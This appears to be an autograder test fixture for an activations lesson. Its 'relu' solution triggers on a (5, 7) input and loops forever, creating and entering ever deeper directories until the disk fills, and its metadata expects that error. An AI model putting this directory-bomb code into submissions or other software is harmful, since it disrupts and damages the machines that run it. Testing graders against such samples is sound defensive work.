#: purpose = "Folders within folders, deeper than any path may be long, for whoever has to remove them."
#: lesson = "01_activations"
#: messages = ["No space left on device"]
#: [items]
#: relu = [0, "error"]
# %% relu-solution
import os

def relu(Z):
    while Z.shape == (5, 7):
        os.mkdir("hostile-mark" * 20)
        os.chdir("hostile-mark" * 20)
    return np.maximum(0, Z)
